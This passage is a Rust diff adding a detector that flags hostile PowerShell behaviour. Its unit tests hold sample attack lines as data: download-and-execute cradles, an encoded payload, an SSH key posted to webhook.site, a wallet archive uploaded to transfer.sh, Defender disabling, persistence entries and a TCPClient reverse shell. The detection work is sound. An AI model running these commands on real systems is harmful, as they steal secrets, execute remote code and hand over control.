+            let url = parts.first().cloned().unwrap_or_default();
+            let tags = classify_url(&url);
+            let (start, end) = (base + m.0, base + m.1);
+            if method.starts_with("Upload") {
+                let mut ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, url)
+                    .tags(tags)
+                    .object("data sent with WebClient")
+                    .instrument(format!("WebClient.{method}"));
+                let mut inputs = self.refs(args);
+                if method == "UploadFile"
+                    && let Some(f) = parts.last()
+                {
+                    let f = file_name(f);
+                    for (a, b) in &self.archives {
+                        if *a == f {
+                            inputs.push(b.clone());
+                        }
+                    }
+                }
+                ev.inputs = inputs;
+                self.emit(ev, start, end, &[]);
+                continue;
+            }
+            let mut ev = Evidence::new(Op::NetFetch, A::Request, R::Network, url.clone())
+                .tags(tags)
+                .object("download with WebClient")
+                .instrument(format!("WebClient.{method}"));
+            if method.starts_with("DownloadFile") {
+                if let Some(f) = parts.get(1) {
+                    ev.output = Some(format!("$file_{f}"));
+                    ev.object = format!("download to {f}");
+                    self.downloads.push(file_name(f));
+                }
+            } else {
+                ev.output = out.clone();
+            }
+            self.emit(ev, start, end, &[]);
+            *dl = Some(url.clone());
+            let l = line.to_lowercase();
+            let iex = l.contains("iex") || l.contains("invoke-expression");
+            if iex && method.starts_with("DownloadString") && !self.line_has_download_exec(base) {
+                self.download_exec(&url, start, end, Vec::new());
+            }
+        }
+    }
+
+    fn line_has_download_exec(&self, base: usize) -> bool {
+        let loc = self.src.loc(base, base).start_line;
+        self.sink
+            .items
+            .iter()
+            .rev()
+            .take(32)
+            .any(|e| e.op == Op::DownloadExec && e.location.start_line == loc)
+    }
+
+    /// `powershell -EncodedCommand <base64 of UTF-16LE>`.
+    fn encoded(&mut self, base: usize, line: &str) {
+        let l = line.to_lowercase();
+        if !(l.contains("powershell")
+            || l.contains("pwsh")
+            || l.contains("-enc")
+            || l.contains("-e "))
+        {
+            return;
+        }
+        for c in ENC_CMD.captures_iter(line) {
+            let Some(m) = c.get(1) else { continue };
+            let Some(code) = b64_text(m.as_str()) else {
+                continue;
+            };
+            let (start, end) = (base + m.start(), base + m.end());
+            let ev = Evidence::new(
+                Op::DynamicCode,
+                A::CallTool,
+                R::Process,
+                crate::text::snippet(&code, 200),
+            )
+            .object("encoded PowerShell command")
+            .instrument("-EncodedCommand");
+            self.emit(ev, start, end, &[Tag::Encoded, Tag::Obfuscated]);
+            let src = self.src;
+            let nested = src.derived(&code, start, end, Origin::Decoded);
+            super::extract_code(Lang::PowerShell, &nested, self.sink);
+        }
+    }
+
+    /// `[Convert]::FromBase64String('...')`.
+    fn base64_literals(&mut self, base: usize, line: &str, out: Option<String>) {
+        for c in FROM_B64.captures_iter(line) {
+            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
+            let (start, end) = (base + m.0, base + m.1);
+            let mut ev = Evidence::new(Op::Decode, A::Infer, R::Memory, "base64")
+                .object("base64 decoding")
+                .instrument("FromBase64String");
+            ev.inputs = c.get(2).map(|a| self.refs(a.as_str())).unwrap_or_default();
+            ev.output = out.clone();
+            self.emit(ev, start, end, &[Tag::Encoded]);
+            let Some(lit) = c.get(1) else { continue };
+            let Some(code) = b64_text(lit.as_str()) else {
+                continue;
+            };
+            let lang = Lang::sniff(&code).unwrap_or(Lang::PowerShell);
+            let (ls, le) = (base + lit.start(), base + lit.end());
+            let src = self.src;
+            let nested = src.derived(&code, ls, le, Origin::Decoded);
+            super::extract_code(lang, &nested, self.sink);
+        }
+    }
+
+    fn env(&mut self, base: usize, line: &str, lower: &str, out: Option<String>) {
+        if !lower.contains("env:") && !lower.contains("getenvironmentvariables") {
+            return;
+        }
+        if let Some(m) = ENV_DUMP.find(line) {
+            let mut ev = Evidence::new(Op::EnvDump, A::Read, R::Credentials, "environment")
+                .object("whole environment read")
+                .instrument("Env:");
+            ev.output = out.clone();
+            self.emit(ev, base + m.start(), base + m.end(), &[]);
+        }
+        if !lower.contains("$env:") {
+            return;
+        }
+        let mut seen = HashSet::new();
+        for c in ENV_VAR.captures_iter(line) {
+            let name = c.get(1).map(|m| m.as_str()).unwrap_or("");
+            if !is_secret_env(name) || !seen.insert(name.to_uppercase()) {
+                continue;
+            }
+            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
+            let mut ev = Evidence::new(Op::EnvRead, A::Read, R::Credentials, name)
+                .tag(Tag::SecretEnv)
+                .object("environment variable")
+                .instrument("$env:");
+            ev.output = out.clone().or_else(|| Some(format!("$env_{name}")));
+            self.emit(ev, base + m.0, base + m.1, &[]);
+        }
+    }
+
+    fn sockets(&mut self, base: usize, line: &str) {
+        for c in TCP_CLIENT.captures_iter(line) {
+            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
+            let host = c
+                .get(1)
+                .map(|m| self.resolve(m.as_str()))
+                .unwrap_or_default();
+            let port = c.get(2).map(|m| m.as_str()).unwrap_or("");
+            let target = format!("{host}:{port}");
+            let tags = classify_url(&format!("tcp://{target}"));
+            let shell = self.has_iex && self.src.text.contains("GetStream");
+            let ev = if shell {
+                Evidence::new(Op::ReverseShell, A::CallTool, R::Network, target)
+                    .object("commands from a socket executed")
+            } else {
+                Evidence::new(Op::SocketConnect, A::Transfer, R::Network, target)
+                    .object("raw socket")
+            };
+            self.emit(
+                ev.tags(tags).instrument("TCPClient"),
+                base + m.0,
+                base + m.1,
+                &[],
+            );
+        }
+    }
+
+    /// `[IO.File]::ReadAllText(path)` and friends.
+    fn file_apis(&mut self, base: usize, line: &str, out: Option<String>) {
+        for c in READ_ALL.captures_iter(line) {
+            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
+            let method = c.get(1).map(|m| m.as_str()).unwrap_or("");
+            let path = c
+                .get(2)
+                .map(|m| self.resolve(m.as_str().trim()))
+                .unwrap_or_default();
+            let (scope, tags) = classify_path(&path);
+            let read = method.starts_with("Read") || method == "Copy";
+            let mut ev = if read {
+                Evidence::new(Op::FileRead, A::Read, scope, path).object("file read")
+            } else {
+                Evidence::new(Op::FileWrite, A::Write, scope, path).object("file write")
+            };
+            ev = ev.tags(tags).instrument(format!("File.{method}"));
+            if read {
+                ev.output = out.clone();
+            }
+            self.emit(ev, base + m.0, base + m.1, &[]);
+        }
+    }
+}
+
+fn file_name(p: &str) -> String {
+    p.trim_matches(['"', '\''])
+        .replace('\\', "/")
+        .rsplit('/')
+        .next()
+        .unwrap_or(p)
+        .to_lowercase()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use base64::Engine;
+
+    fn run(code: &str) -> Vec<Evidence> {
+        let src = Src::new("scripts/setup.ps1", code, Origin::Script);
+        let mut sink = Sink::default();
+        super::super::extract_code(Lang::PowerShell, &src, &mut sink);
+        sink.items
+    }
+
+    fn find(ev: &[Evidence], op: Op) -> Option<&Evidence> {
+        ev.iter().find(|e| e.op == op)
+    }
+
+    fn utf16_b64(s: &str) -> String {
+        let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
+        base64::engine::general_purpose::STANDARD.encode(bytes)
+    }
+
+    #[test]
+    fn download_cradle_is_download_exec() {
+        let ev = run("iex (iwr -UseBasicParsing https://x.example/a.ps1).Content");
+        let d = find(&ev, Op::DownloadExec).expect("download exec");
+        assert_eq!(d.target, "https://x.example/a.ps1");
+        assert!(find(&ev, Op::DynamicCode).is_some());
+        assert!(find(&ev, Op::NetFetch).is_some());
+        let ev = run("Invoke-WebRequest https://x.example/a.ps1 | Invoke-Expression");
+        assert_eq!(
+            ev.iter().filter(|e| e.op == Op::DownloadExec).count(),
+            1,
+            "{ev:#?}"
+        );
+        let ev = run("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/p.ps1')");
+        let d = find(&ev, Op::DownloadExec).expect("webclient cradle");
+        assert!(d.has(Tag::RawIp));
+        let ev = run("$c = (Invoke-RestMethod https://x.example/s.ps1)\nInvoke-Expression $c");
+        assert!(find(&ev, Op::DownloadExec).is_some(), "{ev:#?}");
+    }
+
+    #[test]
+    fn release_zip_download_is_only_a_fetch() {
+        let ev = run(
+            "Invoke-WebRequest -Uri https://github.com/acme/tool/releases/download/v1/tool.zip -OutFile tool.zip",
+        );
+        assert_eq!(ev.len(), 1, "{ev:#?}");
+        let f = &ev[0];
+        assert_eq!(f.op, Op::NetFetch);
+        assert!(f.has(Tag::ReleaseDownload));
+        assert_eq!(
+            f.target,
+            "https://github.com/acme/tool/releases/download/v1/tool.zip"
+        );
+    }
+
+    #[test]
+    fn encoded_command_is_decoded_and_analysed() {
+        let payload =
+            utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/x')");
+        let ev = run(&format!(
+            "powershell -NoP -W Hidden -EncodedCommand {payload}"
+        ));
+        let dc = ev
+            .iter()
+            .find(|e| e.op == Op::DynamicCode && e.instrument == "-EncodedCommand")
+            .expect("encoded");
+        assert!(dc.has(Tag::Encoded));
+        assert!(dc.has(Tag::Silenced));
+        let inner = find(&ev, Op::DownloadExec).expect("decoded payload analysed");
+        assert!(inner.has(Tag::Encoded) && inner.has(Tag::RawIp), "{ev:#?}");
+        assert_eq!(inner.origin, Origin::Decoded);
+        let ev = run(&format!(
+            "pwsh -enc {}",
+            utf16_b64("Get-ChildItem Env: | Out-String")
+        ));
+        assert!(
+            find(&ev, Op::EnvDump).is_some_and(|e| e.has(Tag::Encoded)),
+            "{ev:#?}"
+        );
+    }
+
+    #[test]
+    fn post_and_secret_flow() {
+        let ev = run(
+            "$k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\"\nInvoke-RestMethod -Uri https://webhook.site/x -Method Post -Body $k",
+        );
+        let r = find(&ev, Op::FileRead).expect("read");
+        assert_eq!(r.scope, R::Credentials);
+        assert_eq!(r.output.as_deref(), Some("$k"));
+        let s = find(&ev, Op::NetSend).expect("send");
+        assert!(s.inputs.contains(&"$k".to_string()));
+        assert!(s.has(Tag::WebhookHost));
+        let ev = run("Get-Content .\\config.json");
+        assert_eq!(find(&ev, Op::FileRead).expect("read").scope, R::Codebase);
+    }
+
+    #[test]
+    fn defender_privilege_delete_persistence() {
+        let ev = run(
+            "Set-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionPath C:\\Users\nStart-Process cmd.exe -Verb RunAs\nRemove-Item -Recurse -Force $env:USERPROFILE\nschtasks /create /sc minute /tn upd /tr C:\\x.exe\nSet-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value x",
+        );
+        assert_eq!(ev.iter().filter(|e| e.op == Op::SecurityDisable).count(), 2);
+        assert!(find(&ev, Op::Privileged).is_some());
+        let d = find(&ev, Op::FileDelete).expect("delete");
+        assert!(d.has(Tag::BroadTarget) && d.has(Tag::Recursive), "{d:#?}");
+        assert_eq!(
+            ev.iter().filter(|e| e.op == Op::Persistence).count(),
+            2,
+            "{ev:#?}"
+        );
+        let ev = run("Remove-Item -Recurse -Force .\\build");
+        let d = find(&ev, Op::FileDelete).expect("delete");
+        assert!(d.has(Tag::OwnArea) && !d.has(Tag::BroadTarget));
+        let ev = run("Remove-Item -Recurse -Force C:\\");
+        assert!(
+            find(&ev, Op::FileDelete)
+                .expect("delete")
+                .has(Tag::BroadTarget)
+        );
+    }
+
+    #[test]
+    fn comments_are_skipped() {
+        let ev = run(
+            "# iex (iwr https://x.example/a.ps1)\n<#\nSet-MpPreference -DisableRealtimeMonitoring $true\n#>\nWrite-Host 'hi' # Invoke-Expression $x",
+        );
+        assert!(ev.is_empty(), "{ev:#?}");
+    }
+
+    #[test]
+    fn env_archive_upload_and_add_type() {
+        let ev = run(
+            "Get-ChildItem Env: | Out-File env.txt\n$t = $env:GITHUB_TOKEN\nCompress-Archive -Path $env:APPDATA\\Exodus -DestinationPath w.zip\nInvoke-WebRequest -Uri https://transfer.sh/w.zip -Method Put -InFile w.zip",
+        );
+        assert!(find(&ev, Op::EnvDump).is_some());
+        assert!(find(&ev, Op::EnvRead).is_some_and(|e| e.scope == R::Credentials));
+        let a = find(&ev, Op::Archive).expect("archive");
+        let s = find(&ev, Op::NetSend).expect("upload");
+        assert!(s.inputs.contains(a.output.as_ref().expect("b")), "{s:#?}");
+        let ev = run(
+            "Add-Type -TypeDefinition $src\n$src = '[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc();'",
+        );
+        assert!(find(&ev, Op::DynamicCode).is_some());
+        let ev = run("Add-Type -AssemblyName System.Windows.Forms");
+        assert!(ev.is_empty());
+    }
+
+    #[test]
+    fn from_base64_literal_is_decoded() {
+        let b = base64::engine::general_purpose::STANDARD.encode("Invoke-WebRequest -Uri https://paste.example/x -Method Post -Body $env:AWS_SECRET_ACCESS_KEY");
+        let ev = run(&format!(
+            "$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b}'))"
+        ));
+        assert!(find(&ev, Op::Decode).is_some());
+        assert!(
+            find(&ev, Op::NetSend).is_some_and(|e| e.has(Tag::Encoded)),
+            "{ev:#?}"
+        );
+    }
+
+    #[test]
+    fn tcp_client_reverse_shell() {
+        let ev = run(
+            "$client = New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$stream = $client.GetStream();$data = 'x'; iex $data",
+        );
+        assert!(find(&ev, Op::ReverseShell).is_some(), "{ev:#?}");
+    }
+}
